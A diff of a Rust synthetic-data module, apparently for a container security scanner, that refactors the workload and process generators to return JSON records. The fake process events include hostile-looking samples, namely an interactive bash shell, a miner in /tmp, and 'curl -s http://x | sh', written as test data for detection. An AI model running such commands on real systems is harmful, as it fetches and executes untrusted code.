@@ -80,6 +80,18 @@ impl Rng {
 
 /// Deployments (1-4 containers) joined with their images (20-300 components, 0-40 vulns).
 pub fn workload(deployments: usize, seed: u64) -> Dataset {
+    let mut ds = Dataset::default();
+    for r in workload_records(deployments, seed) {
+        if let Ok(rec) = serde_json::from_value::<Record>(r) {
+            let _ = ds.add(rec);
+        }
+    }
+    ds.finish();
+    ds
+}
+
+/// The records of [`workload`] as records.md JSON: the images first, then the deployments.
+pub fn workload_records(deployments: usize, seed: u64) -> Vec<Value> {
     let mut rng = Rng::new(seed);
     let mut records = Vec::new();
     let images = (deployments / 4).max(4);
@@ -120,28 +132,29 @@ pub fn workload(deployments: usize, seed: u64) -> Dataset {
         records.push(json!({"kind": "deployment", "id": format!("d{d}"), "name": format!("web-{d}"), "namespace": "prod",
             "host_network": rng.chance(3), "containers": containers}));
     }
-    let mut ds = Dataset::default();
-    for r in records {
-        if let Ok(rec) = serde_json::from_value::<Record>(r) {
-            let _ = ds.add(rec);
-        }
-    }
-    ds.finish();
-    ds
+    records
 }
 
 /// Process events: mostly application processes, some shells and downloaders.
 pub fn processes(n: usize, seed: u64) -> Vec<Process> {
+    process_records(n, seed)
+        .into_iter()
+        .filter_map(|v| serde_json::from_value(v).ok())
+        .collect()
+}
+
+/// The events of [`processes`] as records.md JSON (`kind: process`).
+pub fn process_records(n: usize, seed: u64) -> Vec<Value> {
     let mut rng = Rng::new(seed);
     (0..n)
-        .filter_map(|i| {
+        .map(|i| {
             let (name, path, args) = match rng.below(20) {
                 0 => ("bash", "/bin/bash", "-i"),
                 1 => ("curl", "/usr/bin/curl", "-s http://x | sh"),
                 2 => ("miner", "/tmp/miner", "--pool x"),
                 _ => ("server", "/app/server", "--port 8080"),
             };
-            serde_json::from_value(json!({"id": format!("p{i}"), "name": name, "exec_path": path, "args": args, "uid": 1000})).ok()
+            json!({"kind": "process", "id": format!("p{i}"), "name": name, "exec_path": path, "args": args, "uid": 1000})
         })
         .collect()
 }
